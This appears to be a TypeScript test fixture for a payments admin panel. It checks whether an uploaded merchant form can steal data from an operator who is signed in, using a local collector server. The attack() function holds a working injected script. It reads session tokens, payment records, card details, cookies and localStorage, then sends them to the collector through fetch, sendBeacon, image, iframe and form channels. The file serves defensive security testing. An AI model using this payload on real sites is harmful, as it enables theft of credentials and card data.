/** A malicious form, a server that collects what it steals, and an operator who opens it while signed in to the panel. Chapter 30 §9.4. */
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { Browser, BrowserContext } from 'playwright-core'
import { moveForm, uploadForm } from '#server/setup/forms/forms.ts'
import { zipOf } from '#server/setup/forms/testing/zip-sample.ts'
import { portOf } from '../hosts/port-of.ts'
import { makeUser, PanelClient } from '../panel/admin.ts'
import type { Shop } from '../shop.ts'

/** Another server, which records whatever reaches it. */
export async function startThief() {
  const received: string[] = []
  const server = createServer((request, response) => {
    const parts: Buffer[] = []
    request.on('data', (part: Buffer) => parts.push(part))
    request.on('end', () => {
      received.push(`${request.method} ${decodeURIComponent(request.url ?? '')} ${Buffer.concat(parts).toString()}`)
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('taken')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const port = portOf(server)
  return {
    url: `http://localhost:${port}`,
    received,
    stop: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

/** Tries every way out that a script has, and sends only what it could steal. The panel is on the form's own host by default. */
export const attack = (thiefUrl: string, panelUrl = ''): string => `
;(async () => {
  const loot = {}
  const read = async (path, init = {}) => {
    const reply = await fetch(path, { credentials: 'include', ...init })
    if (!reply.ok) throw new Error(String(reply.status))
    return reply.json()
  }
  const tried = async (name, get) => { try { loot[name] = await get() } catch { /* the next one */ } }
  await tried('session', () => read('${panelUrl}/admin/api/session'))
  await tried('payments', () => read('${panelUrl}/admin/api/payments'))
  const [payment] = loot.payments?.payments ?? []
  if (payment) {
    const path = '${panelUrl}/admin/api/merchants/' + payment.merchantId + '/payments/' + payment.id + '/card'
    const headers = { 'content-type': 'application/json', 'x-csrf-token': loot.session?.csrf ?? '' }
    const body = JSON.stringify({ reason: 'because' })
    await tried('card', () => read(path, { method: 'POST', headers, body }))
  }
  await tried('cookie', () => document.cookie || Promise.reject())
  await tried('storage', () => JSON.stringify(localStorage))
  await tried('framed', async () => {
    const frame = document.createElement('iframe')
    frame.src = '${panelUrl}/admin'
    document.body.append(frame)
    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 1500) })
    return frame.contentDocument.body.innerHTML || Promise.reject()
  })
  window.loot = loot
  if (Object.keys(loot).length > 0) {
    const text = encodeURIComponent(JSON.stringify(loot).slice(0, 3000))
    fetch('${thiefUrl}/fetch?' + text, { mode: 'no-cors' }).catch(() => {})
    navigator.sendBeacon('${thiefUrl}/beacon', text)
    new Image().src = '${thiefUrl}/image?' + text
    const frame = document.createElement('iframe')
    frame.name = 'out'
    frame.src = '${thiefUrl}/frame?' + text
    document.body.append(frame)
    const form = Object.assign(document.createElement('form'), { action: '${thiefUrl}/form?' + text, method: 'post', target: 'out' })
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 1000))
  }
  document.documentElement.dataset.attacked = 'yes'
})()
`

const sample = new URL('../../../web/sdk/sample-form/', import.meta.url)
const sampleFile = (path: string): Promise<string> => readFile(new URL(path, sample), 'utf8')

/** The sample form with some lines added, uploaded and approved. */
export async function approveForm(shop: Shop, formId: string, more: string, merchant = 'demo'): Promise<string> {
  const archive = zipOf({
    'index.html': (await sampleFile('index.html')).replaceAll('sample-form/', `${formId}/`),
    'js/form.js': (await sampleFile('js/form.js')) + more,
    'style/form.css': await sampleFile('style/form.css'),
    'img/lock.svg': await sampleFile('img/lock.svg'),
  })
  const context = { ...shop.base, by: 'test' }
  const merchantId = shop.service.configuration.byKey(shop.merchant(merchant).key)?.merchant.id ?? ''
  const uploaded = await uploadForm(context, { merchantId, formId, archive, baseUrl: shop.url })
  assert.ok(uploaded.ok, JSON.stringify(uploaded))
  const moved = await moveForm(context, uploaded.form, 'approved')
  assert.ok(moved.ok, JSON.stringify(moved))
  return moved.form.id
}

/** A browser in which an owner is signed in to the panel. */
export async function signInOperator(shop: Shop, browser: Browser): Promise<BrowserContext> {
  const client = new PanelClient(shop.url)
  assert.equal((await client.signIn(await makeUser(shop))).http, 200)
  const context = await browser.newContext()
  context.setDefaultTimeout(10_000)
  const [name = '', value = ''] = client.cookie.split('=')
  await context.addCookies([{ name, value, url: `${shop.url}/admin` }])
  return context
}
